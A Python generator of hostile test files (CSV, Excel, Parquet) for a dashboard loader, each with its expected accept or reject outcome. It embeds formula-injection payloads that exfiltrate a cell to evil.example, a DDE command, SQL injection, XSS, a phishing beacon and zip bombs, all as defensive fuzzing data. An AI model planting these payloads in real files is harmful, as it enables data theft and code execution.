"""Write the hostile corpus: files a careless or hostile user could hand to `voice-dashboard load`.

    python tests/hostile/make_corpus.py OUT_FOLDER      # writes OUT_FOLDER/<kind>/<file> + cases.yaml

The files are generated, not committed (some are megabytes, some are zip bombs): the test suite
writes them once per session into a temporary folder (tests/test_hostile_corpus.py). Generation
is deterministic: the same script writes the same bytes every time (fixed seeds, fixed zip
timestamps), so a failing case can be regenerated and opened by hand.

Every case says what must happen: `load` (a correct load), or `reject` with text the message
must contain (and the row/column it must name, when there is one). Whatever the case, the CLI
must never show a traceback, hang, write part of a file, or change the file.
"""
from __future__ import annotations

import io
import random
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parents[2]
GOOD = ROOT / "tests" / "good_inputs"
GOOD_FILE = {
    "actions": "kent_actions_2024.csv",
    "bright-spots": "kent_2024_long.csv",
    "dfe": "synthetic_cin_2020_to_2024.csv",
    "feedback": "kent_forms_2024.csv",
    "participation": "kent_reviews_2024.csv",
    "themes": "kent_themes_2024.csv",
    "voice-checks": "kent_checks_2024.csv",
}
KINDS = list(GOOD_FILE)
BOM = b"\xef\xbb\xbf"
ZIP_TIME = (2024, 1, 1, 0, 0, 0)
CELL_LIMIT = 32_767
COLUMN_LIMIT = 1_000


@dataclass
class Case:
    kind: str
    name: str                      # the file name, exactly as written (may hold [ ] * ? and spaces)
    content: Callable[[], bytes]
    expect: str                    # load | reject
    says: str = ""                 # text the message must contain (reject)
    row: int | None = None
    column: str | None = None
    tags: list[str] = field(default_factory=list)

    @property
    def id(self) -> str:
        return f"{self.kind}/{self.name}"


# -- the good file of each kind, as lines -----------------------------------------------------
def good_lines(kind: str) -> tuple[list[str], list[list[str]]]:
    """Header and rows of the kind's good file (split on commas outside quotes)."""
    import csv

    text = (GOOD / kind / GOOD_FILE[kind]).read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    return rows[0], [r for r in rows[1:] if r]


def to_csv(header: list[str], rows: list[list[str]], newline: str = "\n") -> str:
    import csv

    out = io.StringIO()
    w = csv.writer(out, lineterminator=newline)
    w.writerow(header)
    w.writerows(rows)
    return out.getvalue()


def good_text(kind: str, newline: str = "\n") -> str:
    header, rows = good_lines(kind)
    return to_csv(header, rows, newline)


def with_cell(kind: str, row: int, column: int, value: str) -> str:
    """The good file with one cell replaced (row 0 = first data row, the spreadsheet's row 2)."""
    header, rows = good_lines(kind)
    rows = [list(r) for r in rows]
    rows[row][column] = value
    return to_csv(header, rows)


def col(kind: str, name: str) -> int:
    return good_lines(kind)[0].index(name)


# What a row missing its last field does, per kind: the last column's own rule.
SHORT_ROW = {
    "actions": ("load",),                       # owner is optional
    "bright-spots": ("reject", "the same placement_type on every row of a respondent", 3, "placement_type"),
    "dfe": ("load",),                           # a blank indicator cell is allowed
    "feedback": ("load",),                      # team is not in the contract (ignored)
    "participation": ("reject", "this column cannot be blank", 3, "scheme"),
    "themes": ("reject", "yes or no whenever there is a quote", 3, "quote_consent"),
    "voice-checks": ("reject", "this column cannot be blank", 3, "answer"),
}

# A column of each kind whose text is free (ids, names of things), where odd text is still text.
ID_COLUMN = {"actions": "action_id", "bright-spots": "respondent_id", "dfe": "la_name",
             "feedback": "form_id", "participation": "review_id", "themes": "record_id",
             "voice-checks": "child_ref"}


def utf8(text: str) -> Callable[[], bytes]:
    return lambda: text.encode("utf-8")


# -- CSV cases for every kind -----------------------------------------------------------------
def csv_cases(kind: str) -> list[Case]:
    header, rows = good_lines(kind)
    good = good_text(kind)
    ic = col(kind, ID_COLUMN[kind])
    idname = ID_COLUMN[kind]
    lines = good.splitlines()
    rnd = random.Random(f"hostile-{kind}")
    garbage = bytes(rnd.randrange(256) for _ in range(4096))
    wide_header = header + [f"extra_{i}" for i in range(COLUMN_LIMIT + 1 - len(header))]
    wide_rows = [r + [""] * (len(wide_header) - len(r)) for r in rows]
    C = lambda name, content, expect, says="", row=None, column=None, tags=(): Case(  # noqa: E731
        kind, name, content, expect, says, row, column, list(tags))
    # Text with spaces in a pseudonymous reference looks like a name and is refused (voice-checks has
    # no free-text column); elsewhere it is just text.
    spaced = (("reject", "looks like a name", 2, idname) if kind == "voice-checks" else ("load",))
    cases = [
        # names holding pattern characters are names, never patterns
        C("survey[1].csv", utf8(good), "load", tags=["name"]),
        C("report*.csv", utf8(good), "load", tags=["name"]),
        C("kent [final].csv", utf8(good), "load", tags=["name"]),
        C("what?.csv", utf8(good), "load", tags=["name"]),
        C("{a,b}.csv", utf8(good), "load", tags=["name"]),
        C("données été 2024.csv", utf8(good), "load", tags=["name"]),
        C("UPPER.CSV", utf8(good), "load", tags=["name"]),
        # encodings
        C("utf8_bom.csv", lambda: BOM + good.encode(), "load", tags=["encoding"]),
        C("double_bom.csv", lambda: BOM + BOM + good.encode(), "load", tags=["encoding", "bom"]),
        C("utf16_le_bom.csv", lambda: good.encode("utf-16"), "reject", "UTF-16", tags=["encoding"]),
        C("utf16_be_bom.csv", lambda: b"\xfe\xff" + good.encode("utf-16-be"), "reject", "UTF-16", tags=["encoding"]),
        C("utf16_le_no_bom.csv", lambda: good.encode("utf-16-le"), "reject", "UTF-16",
          tags=["encoding", "nul"]),
        C("utf32_bom.csv", lambda: good.encode("utf-32"), "reject", "UTF-32", tags=["encoding"]),
        C("latin1_cell.csv", lambda: with_cell(kind, 1, ic, "Zoë café").encode("latin-1", "replace"), "reject",
          "is not valid UTF-8", row=3, tags=["encoding"]),
        C("cp1252_smart_quote.csv", lambda: with_cell(kind, 0, ic, "it\u2019s").encode("cp1252"), "reject",
          "is not valid UTF-8", row=2, tags=["encoding"]),
        C("mixed_encodings.csv", lambda: _mixed(kind, ic), "reject", "is not valid UTF-8", row=3, tags=["encoding"]),
        C("bom_inside_cell.csv", utf8(with_cell(kind, 0, ic, "\ufeffX1")), "load", tags=["bom"]),
        # line endings
        C("crlf.csv", utf8(good_text(kind, "\r\n")), "load", tags=["line-endings"]),
        C("cr_only.csv", utf8(good_text(kind, "\r")), "reject", "carriage return only", row=1, tags=["line-endings"]),
        C("mixed_line_endings.csv", utf8("\r\n".join(lines[:2]) + "\n" + "\n".join(lines[2:]) + "\r\n"), "load",
          tags=["line-endings"]),
        C("no_final_newline.csv", utf8(good.rstrip("\n")), "load", tags=["line-endings"]),
        C("trailing_blank_lines.csv", utf8(good + "\n\n\n"), "load", tags=["line-endings"]),
        C("ten_thousand_blank_lines.csv", utf8(good + "\n" * 10_000), "load", tags=["line-endings"]),
        # NUL bytes and control characters
        C("nul_in_cell.csv", utf8(with_cell(kind, 0, ic, "X\x001")), "reject", "NUL", row=2, column=idname, tags=["nul"]),
        C("nul_only_cell.csv", utf8(with_cell(kind, 1, ic, "\x00")), "reject", "NUL", row=3, column=idname, tags=["nul"]),
        C("nul_in_header.csv", utf8(good.replace(header[0], header[0] + "\x00", 1)), "reject", "control characters",
          row=1, tags=["nul"]),
        C("escape_sequence.csv", utf8(with_cell(kind, 0, ic, "\x1b[31mred\x1b[0m")), "reject", "control characters",
          row=2, column=idname, tags=["control"]),
        C("delete_char.csv", utf8(with_cell(kind, 0, ic, "X\x7f1")), "reject", "U+007F", row=2, column=idname,
          tags=["control"]),
        C("form_feed.csv", utf8(with_cell(kind, 0, ic, "X\x0c1")), "reject", "U+000C", row=2, column=idname,
          tags=["control"]),
        C("bell_in_header.csv", utf8(good.replace(header[-1], header[-1] + "\x07", 1)), "reject",
          "control characters", row=1, tags=["control"]),
        C("tab_around_cell.csv", utf8(with_cell(kind, 0, ic, "\t" + rows[0][ic] + "\t")), "load", tags=["control"]),
        # huge fields, wide rows
        C("cell_over_limit.csv", utf8(with_cell(kind, 0, ic, "x" * (CELL_LIMIT + 1))), "reject",
          "at most 32,767 characters", row=2, column=idname, tags=["huge"]),
        C("cell_5mb.csv", utf8(with_cell(kind, 1, ic, "y" * 5_000_000)), "reject", "at most 32,767 characters",
          row=3, column=idname, tags=["huge"]),
        C("header_name_300_chars.csv", utf8(good.replace(header[-1], header[-1] + "h" * 300, 1)), "reject",
          "at most 200 characters", row=1, tags=["huge"]),
        C("first_line_2mb_no_newline.csv", lambda: b"a" * 2_000_000, "reject", "at most 200 characters", row=1,
          tags=["huge"]),
        C("wide_1001_columns.csv", utf8(to_csv(wide_header, wide_rows)), "reject", "at most 1,000 columns", row=1,
          tags=["wide"]),
        C("wide_20000_columns.csv", utf8(",".join(f"c{i}" for i in range(20_000)) + "\n" + "," * 19_999 + "\n"),
          "reject", "at most 1,000 columns", row=1, tags=["wide"]),
        # headers
        C("duplicate_header.csv", utf8(to_csv(header + [header[0]], [r + [r[0]] for r in rows])), "reject",
          "each column name to appear once", column="header", tags=["header"]),
        C("duplicate_header_case.csv", utf8(to_csv(header + [header[0].upper()], [r + [r[0]] for r in rows])),
          "reject", "each column name to appear once", column="header", tags=["header"]),
        C("duplicate_header_spaces.csv", utf8(to_csv(header + [f"  {header[0]} "], [r + [r[0]] for r in rows])),
          "reject", "each column name to appear once", column="header", tags=["header"]),
        C("header_shuffled.csv", utf8(to_csv(header[::-1], [r[::-1] for r in rows])), "load", tags=["header"]),
        # empty and nearly empty
        C("empty.csv", lambda: b"", "reject", "the file is empty", tags=["empty"]),
        C("whitespace_only.csv", lambda: b"   \n\t\n  ", "reject", "the file is empty", tags=["empty"]),
        C("newlines_only.csv", lambda: b"\n\n\n\r\n", "reject", "the file is empty", tags=["empty"]),
        C("bom_only.csv", lambda: BOM, "reject", "the file is empty", tags=["empty", "bom"]),
        C("header_only.csv", utf8(lines[0] + "\n"), "reject", "at least one data row", tags=["empty"]),
        C("header_only_bom_crlf.csv", lambda: BOM + (lines[0] + "\r\n").encode(), "reject", "at least one data row",
          tags=["empty", "bom"]),
        C("header_and_blank_rows.csv", utf8(lines[0] + "\n" + ("," * (len(header) - 1) + "\n") * 3), "reject",
          "at least one data row", tags=["empty"]),
        # structure
        C("unbalanced_quote.csv", utf8(with_cell(kind, 0, ic, "X1").replace("X1", '"X1', 1)), "reject", "",
          tags=["structure"]),
        C("ragged_extra_field.csv", utf8(good.replace(lines[2], lines[2] + ",surplus", 1)), "reject",
          "fields like the header row", row=3, tags=["structure"]),
        # A short row is read as if its last cells were blank (as spreadsheet programs write them):
        # then it is the contract of the last column that decides (see SHORT_ROW).
        C("ragged_missing_field.csv", utf8(good.replace(lines[2], lines[2].rsplit(",", 1)[0], 1)),
          *SHORT_ROW[kind], tags=["structure"]),
        C("random_bytes.csv", lambda: garbage, "reject", "", tags=["binary"]),
        C("png_named_csv.csv", lambda: b"\x89PNG\r\n\x1a\n" + garbage[:512], "reject", "", tags=["binary"]),
        C("zip_named_csv.csv", lambda: _zip({"a.csv": good.encode()}), "reject", "", tags=["binary"]),
        # text that is only text
        C("formula_in_id.csv", utf8(with_cell(kind, 0, ic, '=HYPERLINK("http://evil.example/?"&A1,"click")')), "load",
          tags=["formula"]),
        C("plus_minus_at_in_ids.csv", utf8(with_cell(kind, 0, ic, "+cmd|' /C calc'!A0")), *spaced,
          tags=["formula"]),
        C("sql_in_id.csv", utf8(with_cell(kind, 0, ic, "x'); DROP TABLE load_log; --")), *spaced, tags=["injection"]),
        C("html_in_id.csv", utf8(with_cell(kind, 0, ic, "<script>alert(1)</script>")), "load", tags=["injection"]),
        C("bidi_override_in_id.csv", utf8(with_cell(kind, 0, ic, "\u202eX1")), "load", tags=["unicode"]),
        C("nbsp_around_cell.csv", utf8(with_cell(kind, 0, ic, "\u00a0" + rows[0][ic] + "\u00a0")), "load",
          tags=["unicode"]),
    ]
    if "la_code" in header:
        lc = col(kind, "la_code")
        cases += [
            C("zero_width_space_in_la_code.csv", utf8(with_cell(kind, 0, lc, "E1000\u200b0016")), "reject",
              "an English local authority code", row=2, column="la_code", tags=["unicode"]),
            C("la_code_5mb.csv", utf8(with_cell(kind, 0, lc, "E" * 5_000_000)), "reject", "at most 32,767 characters",
              row=2, column="la_code", tags=["huge"]),
            C("la_code_fullwidth_digits.csv", utf8(with_cell(kind, 0, lc, "８８６")), "reject",
              "an English local authority code", row=2, column="la_code", tags=["unicode"]),
        ]
    return cases


def _mixed(kind: str, ic: int) -> bytes:
    """Row 2 in UTF-8, row 3 in Latin-1: two programs wrote one file."""
    header, rows = good_lines(kind)
    rows = [list(r) for r in rows]
    rows[0][ic], rows[1][ic] = "Zoë", "Zoë"
    lines = to_csv(header, rows).splitlines(keepends=True)
    return "".join(lines[:2]).encode() + lines[2].encode("latin-1") + "".join(lines[3:]).encode()


def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = compression
            zf.writestr(info, data)
    return out.getvalue()


# -- kind-specific cases ------------------------------------------------------------------------
def special_cases() -> list[Case]:
    cases: list[Case] = []
    fb = "feedback"
    m = col(fb, "meeting_number")
    cases += [
        Case(fb, "meeting_number_3000000000.csv", utf8(with_cell(fb, 0, m, "3000000000")), "reject",
             "at most 2,147,483,647", 2, "meeting_number", ["numbers"]),
        Case(fb, "meeting_number_30_digits.csv", utf8(with_cell(fb, 0, m, "9" * 30)), "reject", "a whole number",
             2, "meeting_number", ["numbers"]),
        Case(fb, "meeting_number_5000_digits.csv", utf8(with_cell(fb, 0, m, "7" * 5000)), "reject", "a whole number",
             2, "meeting_number", ["numbers"]),
        Case(fb, "score_1e309.csv", utf8(with_cell(fb, 0, col(fb, "q1"), "1e309")), "reject", "a score", 2, "q1",
             ["numbers"]),
        Case(fb, "score_arabic_indic_digit.csv", utf8(with_cell(fb, 0, col(fb, "q1"), "\u0663")), "reject", "a score",
             2, "q1", ["numbers", "unicode"]),
        Case(fb, "score_nan.csv", utf8(with_cell(fb, 0, col(fb, "q2"), "NaN")), "reject", "a score", 2, "q2",
             ["numbers"]),
        Case(fb, "date_9999.csv", utf8(with_cell(fb, 0, col(fb, "date"), "9999-12-31")), "reject", "a date between",
             2, "date", ["dates"]),
        Case(fb, "date_feb_30.csv", utf8(with_cell(fb, 0, col(fb, "date"), "2024-02-30")), "reject",
             "a date written YYYY-MM-DD", 2, "date", ["dates"]),
        Case(fb, "worker_ref_5mb.csv", utf8(with_cell(fb, 0, col(fb, "worker_ref"), "W" * 5_000_000)), "reject",
             "at most 32,767 characters", 2, "worker_ref", ["huge"]),
    ]
    th = "themes"
    q = col(th, "quote")
    cases += [
        Case(th, "quote_30k_without_spaces.csv", utf8(with_cell(th, 0, q, "a" * 30_000)), "load", tags=["linear"]),
        Case(th, "quote_30k_dots.csv", utf8(with_cell(th, 0, q, "." * 30_000)), "load", tags=["linear"]),
        Case(th, "quote_30k_digits_and_dashes.csv", utf8(with_cell(th, 0, q, "1-" * 15_000)), "load", tags=["linear"]),
        Case(th, "quote_30k_email_like.csv", utf8(with_cell(th, 0, q, "a." * 15_000)), "load", tags=["linear"]),
        Case(th, "quote_markdown_beacon.csv", utf8(with_cell(
            th, 0, q, "![x](http://127.0.0.1:8999/beacon.png) [click here to sign in](http://evil.example)")),
             "load", tags=["injection"]),
        Case(th, "quote_formula.csv", utf8(with_cell(th, 0, q, '=HYPERLINK("http://evil.example","see")')), "load",
             tags=["formula"]),
        Case(th, "quote_multiline.csv", utf8(with_cell(th, 0, q, "line one\nline two\r\nline three")), "load",
             tags=["structure"]),
    ]
    ac = "actions"
    cases += [
        Case(ac, "we_heard_formula.csv", utf8(with_cell(ac, 0, col(ac, "we_heard"), "=1+1")), "load", tags=["formula"]),
        Case(ac, "we_did_40k_chars.csv", utf8(with_cell(ac, 0, col(ac, "we_did"), "z" * 40_000)), "reject",
             "at most 32,767 characters", 2, "we_did", ["huge"]),
    ]
    df = "dfe"
    ti = col(df, "time_identifier")
    cases += [
        Case(df, "time_identifier_misspelt.csv", utf8(with_cell(df, 0, ti, "Reporting yaer")), "reject",
             "a time identifier from the EES list", 2, "time_identifier", ["dfe"]),
        Case(df, "time_identifier_invented.csv", utf8(with_cell(df, 1, ti, "Fortnight 3")), "reject",
             "a time identifier from the EES list", 3, "time_identifier", ["dfe"]),
        Case(df, "time_identifier_5mb.csv", utf8(with_cell(df, 0, ti, "R" * 5_000_000)), "reject",
             "at most 32,767 characters", 2, "time_identifier", ["dfe", "huge"]),
        Case(df, "time_period_fullwidth.csv", utf8(with_cell(df, 0, col(df, "time_period"), "２０２４")), "reject",
             "a 4-digit year", 2, "time_period", ["dfe", "unicode"]),
        Case(df, "value_1e400.csv", utf8(with_cell(df, 0, col(df, "rate_per_10000"), "1e400")), "reject", "",
             tags=["dfe", "numbers"]),
    ]
    bs = "bright-spots"
    cases += [
        Case(bs, "wave_3000000000.csv", utf8(with_cell(bs, 0, col(bs, "wave"), "3000000000")), "reject",
             "a survey year", 2, "wave", ["numbers"]),
        Case(bs, "answer_minus_zero.csv", utf8(with_cell(bs, 0, col(bs, "answer"), "-0")), "load", tags=["numbers"]),
    ]
    return cases


# -- Excel and Parquet ----------------------------------------------------------------------------
def _xlsx(header: list[str], rows: list[list[object]]) -> bytes:
    import datetime as dt

    import xlsxwriter

    out = io.BytesIO()
    wb = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_numbers": False, "strings_to_formulas": False,
                                   "strings_to_urls": False})
    wb.set_properties({"created": dt.datetime(2024, 1, 1)})
    ws = wb.add_worksheet("Sheet1")
    for j, h in enumerate(header):
        ws.write_string(0, j, h)
    for i, r in enumerate(rows, start=1):
        for j, v in enumerate(r):
            if v is None or v == "":
                continue
            ws.write_string(i, j, str(v))
    wb.close()
    return out.getvalue()


def _sheet_xml(header: list[str], rows: list[list[str]], padding: int = 0) -> bytes:
    from xml.sax.saxutils import escape

    def cell(ref_col: int, r: int, v: str) -> str:
        letters = ""
        n = ref_col + 1
        while n:
            n, rem = divmod(n - 1, 26)
            letters = chr(65 + rem) + letters
        return f'<c r="{letters}{r}" t="inlineStr"><is><t>{escape(v)}</t></is></c>'

    body = []
    for i, r in enumerate([header, *rows], start=1):
        body.append(f'<row r="{i}">' + "".join(cell(j, i, v) for j, v in enumerate(r) if v != "") + "</row>")
    xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
           + "".join(body) + "</sheetData>" + " " * padding + "</worksheet>")
    return xml.encode()


def _handmade_xlsx(sheet: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal workbook around one sheet's XML (for shapes xlsxwriter will not write)."""
    parts = {
        "[Content_Types].xml": b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet,
    }
    parts.update(extra or {})
    return _zip(parts)


def excel_cases(kind: str) -> list[Case]:
    header, rows = good_lines(kind)
    ic = col(kind, ID_COLUMN[kind])
    idname = ID_COLUMN[kind]
    good = _xlsx(header, rows)
    bad_cell = lambda value: _xlsx(header, [[value if j == ic else v for j, v in enumerate(rows[0])], *rows[1:]])  # noqa: E731
    wide = header + [f"extra_{i}" for i in range(COLUMN_LIMIT + 1 - len(header))]
    C = lambda name, content, expect, says="", row=None, column=None, tags=(): Case(  # noqa: E731
        kind, name, content, expect, says, row, column, list(tags) + ["xlsx"])
    return [
        C("good.xlsx", lambda: good, "load"),
        C("handmade_inline_strings.xlsx", lambda: _handmade_xlsx(_sheet_xml(header, rows)), "load"),
        C("book[1].xlsx", lambda: good, "load", tags=["name"]),
        C("zip_bomb_ratio.xlsx", lambda: _handmade_xlsx(_sheet_xml(header, rows, padding=64 * 1024 * 1024)), "reject",
          "zip bomb", tags=["zip-bomb"]),
        C("zip_bomb_nested_parts.xlsx", lambda: _handmade_xlsx(
            _sheet_xml(header, rows), {f"xl/media/pad{i}.bin": b"\0" * (4 * 1024 * 1024) for i in range(8)}),
          "reject", "zip bomb", tags=["zip-bomb"]),
        C("twenty_thousand_parts.xlsx", lambda: _handmade_xlsx(
            _sheet_xml(header, rows), {f"xl/p/{i}.xml": b"" for i in range(20_000)}), "reject", "10,000 parts",
          tags=["zip-bomb"]),
        C("csv_text_named_xlsx.xlsx", lambda: good_text(kind).encode(), "reject", "this file is not one"),
        C("empty.xlsx", lambda: b"", "reject", "this file is not one", tags=["empty"]),
        C("truncated.xlsx", lambda: good[: len(good) // 2], "reject", "", tags=["truncated"]),
        C("ole_encrypted_header.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2048, "reject",
          "this file is not one", tags=["binary"]),
        C("crc_damaged.xlsx", lambda: _flip_in_sheet(good), "reject", "", tags=["truncated"]),
        C("zip_without_workbook.xlsx", lambda: _zip({"hello.txt": b"hello"}), "reject", ""),
        # Handmade: xlsxwriter (like Excel) will not write a cell over the limit, but a crafted file can.
        C("cell_over_limit.xlsx", lambda: _handmade_xlsx(_sheet_xml(
            header, [[("x" * (CELL_LIMIT + 1) if j == ic else v) for j, v in enumerate(rows[0])], *rows[1:]])),
          "reject", "at most 32,767 characters", 2, idname, ["huge"]),
        C("control_char_cell.xlsx", lambda: _handmade_xlsx(_sheet_xml(
            header, [[("X&#27;1" if j == ic else v) for j, v in enumerate(rows[0])], *rows[1:]]).replace(
            b"X&amp;#27;1", b"X_x001B_1")), "reject", "control characters", 2, idname, ["control"]),
        C("wide_1001_columns.xlsx", lambda: _xlsx(wide, [r + [""] * (len(wide) - len(r)) for r in rows]), "reject",
          "at most 1,000 columns", 1, tags=["wide"]),
        C("duplicate_header.xlsx", lambda: _xlsx(header + [header[0]], [r + [r[0]] for r in rows]), "reject",
          "each column name to appear once", tags=["header"]),
        C("header_only.xlsx", lambda: _xlsx(header, []), "reject", "at least one data row", tags=["empty"]),
        C("formula_text.xlsx", lambda: bad_cell('=HYPERLINK("http://evil.example","x")'), "load", tags=["formula"]),
    ]


def _flip_in_sheet(xlsx: bytes) -> bytes:
    """Damage the compressed bytes of the sheet (its CRC no longer matches)."""
    zf = zipfile.ZipFile(io.BytesIO(xlsx))
    info = zf.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data = bytearray(xlsx)
    mid = start + info.compress_size // 2
    data[mid] ^= 0xFF
    return bytes(data)


def _parquet(table) -> bytes:
    import pyarrow.parquet as pq

    out = io.BytesIO()
    pq.write_table(table, out)
    return out.getvalue()


def parquet_cases(kind: str) -> list[Case]:
    import pyarrow as pa

    header, rows = good_lines(kind)
    ic = col(kind, ID_COLUMN[kind])
    idname = ID_COLUMN[kind]

    def table(replace: dict[str, pa.Array] | None = None, cols: list[str] | None = None):
        data = {h: pa.array([r[j] or None for r in rows], pa.string()) for j, h in enumerate(header)}
        data.update(replace or {})
        return pa.table(data)

    n = len(rows)
    good = _parquet(table())
    cell0 = lambda v: pa.array([v] + [r[ic] for r in rows[1:]], pa.string())  # noqa: E731
    C = lambda name, content, expect, says="", row=None, column=None, tags=(): Case(  # noqa: E731
        kind, name, content, expect, says, row, column, list(tags) + ["parquet"])
    cases = [
        C("good.parquet", lambda: good, "load"),
        C("data[2024].parquet", lambda: good, "load", tags=["name"]),
        C("list_column.parquet", lambda: _parquet(table({idname: pa.array([["a", "b"]] * n)})), "reject",
          "lists of values", 2, idname, ["types"]),
        C("struct_column.parquet", lambda: _parquet(table({idname: pa.array([{"x": 1}] * n)})), "reject",
          "records (structs)", 2, idname, ["types"]),
        C("binary_column.parquet", lambda: _parquet(table({idname: pa.array([b"\x00\x01"] * n, pa.binary())})),
          "reject", "binary data", 2, idname, ["types"]),
        C("nul_in_string.parquet", lambda: _parquet(table({idname: cell0("X\x001")})), "reject", "NUL", 2, idname,
          ["nul"]),
        C("cell_over_limit.parquet", lambda: _parquet(table({idname: cell0("p" * (CELL_LIMIT + 1))})), "reject",
          "at most 32,767 characters", 2, idname, ["huge"]),
        C("zero_rows.parquet", lambda: _parquet(table().slice(0, 0)), "reject", "at least one data row", tags=["empty"]),
        C("truncated.parquet", lambda: good[: len(good) // 2], "reject", "a readable PARQUET file", tags=["truncated"]),
        C("csv_text_named_parquet.parquet", lambda: good_text(kind).encode(), "reject", "a readable PARQUET file",
          tags=["binary"]),
        C("empty.parquet", lambda: b"", "reject", "a readable PARQUET file", tags=["empty"]),
        C("wide_1001_columns.parquet", lambda: _parquet(pa.table(
            {**{h: pa.array([r[j] or None for r in rows], pa.string()) for j, h in enumerate(header)},
             **{f"extra_{i}": pa.array([None] * n, pa.string()) for i in range(COLUMN_LIMIT + 1 - len(header))}})),
          "reject", "at most 1,000 columns", 1, tags=["wide"]),
        C("dictionary_strings.parquet", lambda: _parquet(pa.table(
            {h: pa.array([r[j] or None for r in rows], pa.string()).dictionary_encode() for j, h in enumerate(header)})),
          "load", tags=["types"]),
    ]
    if kind == "bright-spots":
        w = header.index("wave")
        cases += [
            C("wave_int64_3000000000.parquet", lambda: _parquet(table({"wave": pa.array([3_000_000_000] * n, pa.int64())})),
              "reject", "a survey year", 2, "wave", ["types", "numbers"]),
            C("wave_float.parquet", lambda: _parquet(table({"wave": pa.array([2024.5] * n, pa.float64())})), "reject",
              "a survey year", 2, "wave", ["types", "numbers"]),
            C("wave_int16.parquet", lambda: _parquet(table({"wave": pa.array([int(r[w]) for r in rows], pa.int16())})),
              "load", tags=["types"]),
            C("answer_null_type.parquet", lambda: _parquet(table({"gender": pa.nulls(n)})), "load", tags=["types"]),
        ]
    return cases


def cases() -> list[Case]:
    out: list[Case] = []
    for kind in KINDS:
        out += csv_cases(kind)
    out += special_cases()
    for kind in ("bright-spots", "dfe"):
        out += excel_cases(kind) + parquet_cases(kind)
    ids = [c.id for c in out]
    dupes = {i for i in ids if ids.count(i) > 1}
    assert not dupes, f"two cases share a file name: {sorted(dupes)}"
    return out


def write(folder: Path, only: list[Case] | None = None) -> list[Case]:
    """Write every case's file under folder/<kind>/ and cases.yaml beside them."""
    import yaml

    folder = Path(folder)
    written = only or cases()
    manifest = {}
    for case in written:
        target = folder / case.kind / case.name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(case.content())
        manifest[case.id] = {k: v for k, v in {"expect": case.expect, "says": case.says, "row": case.row,
                                                "column": case.column, "tags": case.tags}.items() if v not in (None, "", [])}
    (folder / "cases.yaml").write_text(yaml.safe_dump(manifest, sort_keys=True, allow_unicode=True), encoding="utf-8")
    return written


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python tests/hostile/make_corpus.py OUT_FOLDER")
    n = len(write(Path(sys.argv[1])))
    print(f"wrote {n} hostile files under {sys.argv[1]}")
